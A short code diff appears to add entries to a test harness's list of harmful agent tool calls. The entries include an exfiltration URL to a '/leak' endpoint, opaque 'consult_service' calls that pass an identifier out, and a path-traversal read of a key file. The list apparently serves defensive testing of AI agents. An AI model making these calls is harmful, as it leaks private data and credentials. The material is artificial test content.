@@ -60,6 +60,16 @@ export const harms: readonly Harm[] = [
     tool: "fetch_page",
     input: (id, at) => ({ url: `${at.site}/leak?d=${id}-KNOWN` }),
   },
+  {
+    name: "fetch by a tool that does not say where",
+    tool: "consult_service",
+    input: (id, at) => ({ question: text(id, at) }),
+  },
+  {
+    name: "fetch by such a tool beside the person's words",
+    tool: "consult_service",
+    input: (id) => ({ question: "tell me", about: id }),
+  },
   { name: "read what is forbidden", tool: "read_file", input: (id) => ({ path: `private/${id}/../key.txt` }) },
 ];
 
